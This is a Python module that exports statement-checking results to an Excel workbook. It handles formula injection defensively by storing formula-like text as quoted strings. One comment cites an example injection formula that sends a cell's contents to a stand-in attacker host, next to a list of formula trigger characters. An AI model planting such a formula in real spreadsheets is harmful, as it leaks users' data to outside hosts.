"""The .xlsx workbook: the rows on a sheet a buyer can sort and filter, and a summary sheet.

The rows sheet comes first (so `pandas.read_excel(path)` reads it), with the header row
frozen, an autofilter over every column, dates and times as real date cells (formatted at
the precision the statement gave: `2025-06-12`, `2025-06`, `2025`), and column widths set
by each column's kind. openpyxl writes in write-only mode, row by row, so widths come
from the column names and kinds rather than from the values, which are not kept.

Statement text stays text: a cell that looks like a formula is written as a string cell
with Excel's quote prefix, never as a formula.
"""

from __future__ import annotations

from collections.abc import Callable, Iterable, Sequence
from dataclasses import dataclass
from datetime import date, datetime, timezone
from typing import IO, Any

from msa_check.batch.export import ColumnKind, Row, column_kind, import_format_extra

# A spreadsheet reads a cell that begins with one of these as a formula (or, for tab and
# carriage return, shifts it into one): a statement sentence such as
# `=HYPERLINK("http://attacker.example/?d="&A1)` must arrive as text (OWASP, "CSV Injection").
FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")

DATE_FORMATS = {10: "yyyy-mm-dd", 7: "yyyy-mm", 4: "yyyy"}  # by the length of the ISO text
DATETIME_FORMAT = "yyyy-mm-dd hh:mm:ss"  # in UTC: Excel has no time zones
SUMMARY_SHEET = "summary"

# Columns of long free text get room; others are as wide as their name, within bounds.
WIDE_TEXT = frozenset({"sentence", "error", "signatories", "matched", "status_criteria"})
URL_TEXT = frozenset({"key", "location", "final_url", "statement_url"})
KIND_WIDTHS = {ColumnKind.DATE: 12, ColumnKind.DATETIME: 20, ColumnKind.BOOLEAN: 9}
NARROWEST, WIDEST = 8, 30


def starts_like_formula(value: str) -> bool:
    return value.startswith(FORMULA_TRIGGERS)


@dataclass(frozen=True)
class SummaryTable:
    """One table of the summary sheet: a bold title row, a header row, then its rows."""

    title: str
    header: tuple[str, ...]
    rows: tuple[tuple[object, ...], ...]


def write_xlsx(
    stream: IO[bytes],
    names: Sequence[str],
    found: Iterable[Row],
    title: str,
    summary: Callable[[], Sequence[SummaryTable]] | None = None,
) -> int:
    """Write `found` as the sheet `title`, then (if given) the tables `summary()` returns
    on a second sheet; it is called after the rows are written, so it may count them."""
    openpyxl = import_openpyxl()
    from openpyxl.utils import get_column_letter

    workbook = openpyxl.Workbook(write_only=True)
    sheet = workbook.create_sheet(title)
    kinds = [column_kind(name) for name in names]
    for index, name in enumerate(names, start=1):
        sheet.column_dimensions[get_column_letter(index)].width = column_width(name)
    sheet.freeze_panes = "A2"
    sheet.append([_header_cell(sheet, name) for name in names])
    count = 0
    for row in found:
        sheet.append(
            [_cell(sheet, kind, row.get(name)) for name, kind in zip(names, kinds, strict=True)]
        )
        count += 1
    if names:
        sheet.auto_filter.ref = f"A1:{get_column_letter(len(names))}{count + 1}"
    if summary is not None:
        _write_summary(workbook.create_sheet(SUMMARY_SHEET), summary())
    workbook.save(stream)
    return count


def column_width(name: str) -> int:
    """A width in characters, from the column's name and kind (values are not kept)."""
    if name in WIDE_TEXT:
        return 60
    if name in URL_TEXT:
        return 40
    fixed = KIND_WIDTHS.get(column_kind(name))
    if fixed is not None:
        return max(fixed, min(len(name) + 2, WIDEST))
    return max(NARROWEST, min(len(name) + 2, WIDEST))


def _header_cell(sheet: Any, name: str) -> Any:
    from openpyxl.cell import WriteOnlyCell
    from openpyxl.styles import Font

    cell = WriteOnlyCell(sheet, value=_text_cell(sheet, name))
    cell.font = Font(bold=True)
    return cell


def _cell(sheet: Any, kind: ColumnKind, value: object) -> Any:
    if kind is ColumnKind.DATE and isinstance(value, str):
        return _date_cell(sheet, value)
    if kind is ColumnKind.DATETIME and isinstance(value, str):
        return _datetime_cell(sheet, value)
    if isinstance(value, str):
        return _text_cell(sheet, value)
    return value


def parse_iso_date(text: str) -> date | None:
    """`2025-06-12`, `2025-06` or `2025` as the first day it covers; None if it is not one."""
    try:
        if len(text) == 10:
            return date.fromisoformat(text)
        if len(text) == 7:
            return date(int(text[:4]), int(text[5:7]), 1)
        if len(text) == 4:
            return date(int(text), 1, 1)
    except ValueError:
        return None
    return None


def parse_iso_datetime(text: str) -> datetime | None:
    """An ISO 8601 date and time as a naive datetime in UTC; None if it is not one."""
    try:
        moment = datetime.fromisoformat(text)
    except ValueError:
        return None
    if moment.tzinfo is not None:
        moment = moment.astimezone(timezone.utc).replace(tzinfo=None)
    return moment


def _date_cell(sheet: Any, text: str) -> Any:
    day = parse_iso_date(text)
    if day is None:
        return _text_cell(sheet, text)
    from openpyxl.cell import WriteOnlyCell

    # A datetime at midnight: what Excel stores for a date (and openpyxl reads back).
    cell = WriteOnlyCell(sheet, value=datetime(day.year, day.month, day.day))
    cell.number_format = DATE_FORMATS[len(text)]  # as precise as the statement was
    return cell


def _datetime_cell(sheet: Any, text: str) -> Any:
    moment = parse_iso_datetime(text)
    if moment is None:
        return _text_cell(sheet, text)
    from openpyxl.cell import WriteOnlyCell

    cell = WriteOnlyCell(sheet, value=moment)
    cell.number_format = DATETIME_FORMAT
    return cell


def _text_cell(sheet: Any, text: str) -> Any:
    """A text cell; one that looks like a formula is stored as a string, never a formula
    (openpyxl would otherwise write `=...` as a live formula)."""
    openpyxl = import_openpyxl()
    text = openpyxl.cell.cell.ILLEGAL_CHARACTERS_RE.sub(" ", text)  # XML cannot hold them
    if not starts_like_formula(text):
        return text
    from openpyxl.cell import WriteOnlyCell

    cell = WriteOnlyCell(sheet, value=text)
    cell.data_type = "s"
    cell.quotePrefix = True  # Excel shows it as typed and will not re-read it as a formula
    return cell


def _write_summary(sheet: Any, tables: Sequence[SummaryTable]) -> None:
    from openpyxl.cell import WriteOnlyCell
    from openpyxl.styles import Font

    widest = max((len(t.header) for t in tables), default=1)
    for index in range(widest):
        sheet.column_dimensions[chr(ord("A") + index)].width = 34 if index == 0 else 16
    bold = Font(bold=True)
    for table in tables:
        heading = WriteOnlyCell(sheet, value=_text_cell(sheet, table.title))
        heading.font = Font(bold=True, size=13)
        sheet.append([heading])
        header = []
        for name in table.header:
            cell = WriteOnlyCell(sheet, value=_text_cell(sheet, name))
            cell.font = bold
            header.append(cell)
        sheet.append(header)
        for values in table.rows:
            sheet.append([_text_cell(sheet, v) if isinstance(v, str) else v for v in values])
        sheet.append([])


def import_openpyxl() -> Any:
    return import_format_extra("xlsx", "openpyxl")
